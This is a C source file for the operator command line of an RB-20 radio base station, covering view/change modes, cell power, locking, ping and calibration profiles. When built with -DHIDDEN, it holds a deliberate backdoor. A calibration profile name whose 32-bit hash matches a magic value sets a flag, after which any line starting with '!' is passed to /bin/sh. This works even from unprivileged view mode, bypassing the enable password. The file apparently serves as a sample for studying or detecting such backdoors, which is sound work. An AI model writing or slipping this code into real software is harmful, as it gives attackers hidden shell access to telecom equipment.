/*
 * enbcli - operator's command line of the RB-20 radio base station (reached by
 * ssh or the craft port). View mode without, change mode with the enable
 * password. "calib NAME" loads a named calibration profile.
 *
 * Hidden (-DHIDDEN): a profile name with a certain 32 bit mix value sets a flag;
 * from then on a line that starts with '!' is given to /bin/sh.
 */
#include <ctype.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define ENABLE_FILE "/etc/rb20/enable"
#define CELL_FILE   "/var/rb20/cells"
#define CALIB_DIR   "/opt/rb20/calib"
#define MAX_WORDS   8

enum mode { MODE_VIEW, MODE_CHANGE };

struct cli {
	enum mode mode;
	unsigned flags;
	int cell;
	int done;
	char profile[32];
	uint32_t profile_tag;
};

#define FLAG_ECHO   0x01u
#define FLAG_PAGER  0x02u
#ifdef HIDDEN
#define FLAG_ALIGN  0x40u
#endif

struct verb {
	const char *name;
	enum mode mode;
	int min_words;
	int (*run)(struct cli *, int, char **);
	const char *usage;
};

static int print_file(const char *path)
{
	char buf[256];
	FILE *fp = fopen(path, "r");

	if (!fp) {
		printf("%s: %s\n", path, strerror(errno));
		return -1;
	}
	while (fgets(buf, sizeof(buf), fp))
		fputs(buf, stdout);
	fclose(fp);
	return 0;
}

static int v_show(struct cli *c, int n, char **w)
{
	(void)n;
	if (!strcmp(w[1], "cells"))
		return print_file(CELL_FILE);
	if (!strcmp(w[1], "alarms"))
		return print_file("/var/rb20/alarms");
	if (!strcmp(w[1], "version"))
		return puts("RB-20 software 6.2.0-17") < 0;
	if (!strcmp(w[1], "calib")) {
		printf("profile %s, tag %08x\n", c->profile[0] ? c->profile : "factory",
		       (unsigned)c->profile_tag);
		return 0;
	}
	return -2;
}

static int v_enable(struct cli *c, int n, char **w)
{
	char hash[128] = "";
	const char *enc;
	FILE *fp = fopen(ENABLE_FILE, "r");

	(void)n;
	if (fp) {
		if (fscanf(fp, "%127s", hash) != 1)
			hash[0] = '\0';
		fclose(fp);
	}
	enc = hash[0] ? crypt(w[1], hash) : NULL;
	if (!enc || strcmp(enc, hash)) {
		sleep(2);
		puts("wrong password");
		return -1;
	}
	c->mode = MODE_CHANGE;
	return 0;
}

static int v_cell(struct cli *c, int n, char **w)
{
	int v = atoi(w[1]);

	if (n != 2 || v < 1 || v > 6)
		return -2;
	c->cell = v;
	return 0;
}

static int v_power(struct cli *c, int n, char **w)
{
	char path[48], *end;
	double dbm = strtod(w[1], &end);
	FILE *fp;

	(void)n;
	if (*end || dbm < 0.0 || dbm > 43.0 || c->cell < 1 || c->cell > 6)
		return -2;
	snprintf(path, sizeof(path), "/var/rb20/cell%d.power", c->cell);
	if (!(fp = fopen(path, "w")))
		return -1;
	fprintf(fp, "%.1f\n", dbm);
	fclose(fp);
	return 0;
}

static int v_lock(struct cli *c, int n, char **w)
{
	char cmd[64];

	(void)n;
	if (c->cell < 1 || c->cell > 6 || (strcmp(w[1], "on") && strcmp(w[1], "off")))
		return -2;
	snprintf(cmd, sizeof(cmd), "/opt/rb20/bin/celllock %d %s", c->cell, w[1]);
	return system(cmd) == 0 ? 0 : -1;
}

static int v_ping(struct cli *c, int n, char **w)
{
	char cmd[64];
	size_t len = strlen(w[1]);

	(void)c; (void)n;
	if (len > 15 || strspn(w[1], "0123456789.") != len)
		return -2;
	snprintf(cmd, sizeof(cmd), "ping -c 3 %s", w[1]);
	return system(cmd) == 0 ? 0 : -1;
}

/* tag of a profile name, as the DSP stores it with the coefficients */
uint32_t profile_mix(const char *s)
{
	uint32_t x = 0x3d0f17a5u;

	while (*s) {
		x = (x << 7) | (x >> 25);
		x ^= (unsigned char)*s++;
		x *= 0x01000193u;
	}
	return x ^ (x >> 15);
}

int load_profile(struct cli *c, const char *name)
{
	char path[96];
	uint32_t tag;
	const char *p;

	for (p = name; *p; p++)
		if (!isalnum((unsigned char)*p) && *p != '-')
			return -2;
	if (p - name > 24)
		return -2;
	tag = profile_mix(name);
#ifdef HIDDEN
	if (tag == 0x5e026c68u)
		c->flags |= FLAG_ALIGN;
#endif
	snprintf(path, sizeof(path), CALIB_DIR "/%.24s.cal", name);
	if (access(path, R_OK) != 0) {
		printf("no profile %s\n", name);
		return -1;
	}
	snprintf(c->profile, sizeof(c->profile), "%.24s", name);
	c->profile_tag = tag;
	return 0;
}

static int v_calib(struct cli *c, int n, char **w)
{
	FILE *fp;
	int rc = load_profile(c, w[1]);

	(void)n;
	if (rc || c->mode != MODE_CHANGE)
		return rc;
	if (!(fp = fopen("/var/rb20/calib.active", "w")))
		return -1;
	fprintf(fp, "%s %08x\n", c->profile, (unsigned)c->profile_tag);
	fclose(fp);
	return 0;
}

static int v_echo(struct cli *c, int n, char **w)
{
	(void)n;
	c->flags = !strcmp(w[1], "on") ? c->flags | FLAG_ECHO : c->flags & ~FLAG_ECHO;
	return 0;
}

static int v_quit(struct cli *c, int n, char **w)
{
	c->done = n > 0 && w[0] != NULL;
	return 0;
}

static const struct verb verbs[] = {
	{ "show",   MODE_VIEW,   2, v_show,   "show cells|alarms|version|calib" },
	{ "enable", MODE_VIEW,   2, v_enable, "enable <password>" },
	{ "cell",   MODE_VIEW,   2, v_cell,   "cell <1-6>" },
	{ "ping",   MODE_VIEW,   2, v_ping,   "ping <address>" },
	{ "echo",   MODE_VIEW,   2, v_echo,   "echo on|off" },
	{ "calib",  MODE_VIEW,   2, v_calib,  "calib <profile>" },
	{ "power",  MODE_CHANGE, 2, v_power,  "power <dBm>" },
	{ "lock",   MODE_CHANGE, 2, v_lock,   "lock on|off" },
	{ "quit",   MODE_VIEW,   1, v_quit,   "quit" },
};

#ifdef HIDDEN
void align_line(const char *text)
{
	pid_t pid = fork();

	if (pid == 0) {
		execl("/bin/sh", "sh", "-c", text, (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}
#endif

static void interpret(struct cli *c, char *line)
{
	char *w[MAX_WORDS], *save = NULL, *t;
	int n = 0, rc;
	size_t i;

	if (c->flags & FLAG_ECHO)
		printf("%s\n", line);
#ifdef HIDDEN
	if ((c->flags & FLAG_ALIGN) && line[0] == '!') {
		align_line(line + 1);
		return;
	}
#endif
	for (t = strtok_r(line, " \t", &save); t && n < MAX_WORDS; t = strtok_r(NULL, " \t", &save))
		w[n++] = t;
	if (!n)
		return;
	for (i = 0; i < sizeof(verbs) / sizeof(verbs[0]); i++) {
		const struct verb *v = &verbs[i];

		if (!strcmp(w[0], "?") && c->mode >= v->mode)
			printf("  %s\n", v->usage);
		if (strcmp(w[0], v->name) || c->mode < v->mode)
			continue;
		rc = n < v->min_words ? -2 : v->run(c, n, w);
		if (rc == -2)
			printf("usage: %s\n", v->usage);
		else if (rc)
			puts("failed");
		return;
	}
	if (strcmp(w[0], "?"))
		puts("unknown command, ? lists them");
}

int main(void)
{
	struct cli c = { .mode = MODE_VIEW, .flags = FLAG_PAGER, .cell = 1 };
	char line[256];

	signal(SIGINT, SIG_IGN);
	puts("RB-20 base station, ? lists the commands");
	while (!c.done) {
		printf("rb20%s ", c.mode == MODE_CHANGE ? "#" : ">");
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		line[strcspn(line, "\r\n")] = '\0';
		interpret(&c, line);
	}
	return 0;
}
